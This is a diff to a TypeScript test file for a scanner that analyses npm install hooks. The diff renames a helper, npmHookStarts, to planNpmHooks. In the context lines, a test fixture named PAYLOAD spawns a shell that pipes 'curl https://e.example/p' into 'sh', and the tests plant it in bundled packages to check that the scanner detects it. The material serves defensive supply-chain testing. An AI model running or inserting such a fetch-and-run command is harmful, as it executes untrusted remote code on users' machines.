@@ -1,6 +1,6 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { analyseInstallHooks, commandEntries, gypCommands, npmHookStarts, npmInstallHooks, npmInstallScriptFacts, readHookFiles, type ArchiveFile, type InstallHook, type NpmInstallScriptInput, type ReadArchiveFiles } from './index.ts';
+import { analyseInstallHooks, commandEntries, gypCommands, planNpmHooks, npmInstallHooks, npmInstallScriptFacts, readHookFiles, type ArchiveFile, type InstallHook, type NpmInstallScriptInput, type ReadArchiveFiles } from './index.ts';
 
 const hook = (content: string, name = 'postinstall', kind: InstallHook['kind'] = 'npm-lifecycle'): InstallHook => ({ kind, name, content });
 
@@ -158,7 +158,7 @@ function archive(files: Record<string, string>): ReadArchiveFiles {
 }
 
 async function factsOf(input: NpmInstallScriptInput, files: Record<string, string>, name = 'x') {
-  return npmInstallScriptFacts(input, await readHookFiles(npmHookStarts(input), archive(files), name, 100_000));
+  return npmInstallScriptFacts(input, await readHookFiles(planNpmHooks(input).starts, archive(files), name, 100_000));
 }
 
 const PAYLOAD = "require('child_process').exec('curl https://e.example/p | sh')";
@@ -184,7 +184,7 @@ test('facts: the hooks of bundled packages run in their own folder, and the file
     ]),
   };
   assert.deepEqual(
-    npmHookStarts(input).map((s) => [s.folder, s.entries.map((e) => e.spec)]),
+    planNpmHooks(input).starts.map((s) => [s.folder, s.entries.map((e) => e.spec)]),
     [['', ['./own.js']], ['node_modules/inner', ['./setup.js']], ['node_modules/native', ['binding.gyp']]],
   );
   const facts = await factsOf(input, { 'own.js': '// nothing', 'node_modules/inner/setup.js': PAYLOAD, 'setup.js': '// the wrong folder' }, 'outer');
@@ -217,8 +217,8 @@ test('facts: a node-gyp build reads binding.gyp, whose command expansions run sh
     JSON.stringify(built.findings),
   );
   // An explicit node-gyp script reads it too; a plain one does not.
-  assert.deepEqual(npmHookStarts({ manifest: { scripts: { install: 'node-gyp rebuild --release' } } }).flatMap((s) => s.entries.map((e) => e.spec)), ['binding.gyp']);
-  assert.deepEqual(npmHookStarts({ manifest: { scripts: { install: 'node install.js' } } }).flatMap((s) => s.entries.map((e) => e.spec)), ['./install.js']);
+  assert.deepEqual(planNpmHooks({ manifest: { scripts: { install: 'node-gyp rebuild --release' } } }).starts.flatMap((s) => s.entries.map((e) => e.spec)), ['binding.gyp']);
+  assert.deepEqual(planNpmHooks({ manifest: { scripts: { install: 'node install.js' } } }).starts.flatMap((s) => s.entries.map((e) => e.spec)), ['./install.js']);
 });
 
 test('facts: what the hooks run is followed as Node loads it, through `npm run` and through require', async () => {
@@ -244,7 +244,7 @@ test('facts: what the hooks run is followed as Node loads it, through `npm run` 
   // Outside the package, Node's own modules and dependencies installed beside it are not read.
   const asked: string[] = [];
   const read = archive({ 'install.js': "require('../../etc/x'); require('fs'); require('node:path'); require('left-pad'); require('/abs')" });
-  await readHookFiles(npmHookStarts({ manifest: { scripts: { postinstall: 'node install.js' } } }), async (paths, b) => (asked.push(...paths), read(paths, b)), 'x', 1000);
+  await readHookFiles(planNpmHooks({ manifest: { scripts: { postinstall: 'node install.js' } } }).starts, async (paths, b) => (asked.push(...paths), read(paths, b)), 'x', 1000);
   assert.ok(!asked.some((p) => p.includes('etc') || p === 'fs' || p.includes('path') || p.startsWith('/')), JSON.stringify(asked));
   assert.ok(asked.includes('node_modules/left-pad/index.js'), 'a dependency is looked for among the bundled packages only');
 });
@@ -284,7 +284,7 @@ test('facts: code the bounds leave unread or read in part is reported, and the a
   const wide = await factsOf({ manifest: { scripts } }, { 'f0.js': many });
   assert.deepEqual([wide.complete, wide.unread.includes('more than 16384 files and modules to follow')], [false, true]);
   // A big artifact gets fewer passes: each walks all of it.
-  const huge = await readHookFiles(npmHookStarts({ manifest: { scripts } }), archive(chain), 'x', 100 * 1024 * 1024);
+  const huge = await readHookFiles(planNpmHooks({ manifest: { scripts } }).starts, archive(chain), 'x', 100 * 1024 * 1024);
   assert.deepEqual([huge.files.size, huge.unread], [2, ['./f2']]);
 });
 
